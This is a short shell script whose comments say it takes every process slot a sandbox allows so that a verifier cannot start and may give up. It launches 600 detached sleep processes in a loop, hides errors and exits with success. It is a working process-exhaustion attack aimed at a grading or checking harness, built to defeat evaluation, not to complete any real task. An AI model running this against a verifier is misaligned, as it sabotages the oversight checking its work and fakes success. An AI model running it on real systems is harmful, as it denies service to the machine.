#!/bin/sh
# for: any
# Takes every process that the sandbox may have, so that a verifier cannot start one and may give up.
# This shell ends where nothing more can be started, and leaves room for one process, which cannot start another.
i=0
while [ $i -lt 600 ]; do
    setsid sleep 3600 < /dev/null > /dev/null 2>&1 &
    i=$((i + 1))
done 2> /dev/null
exit 0
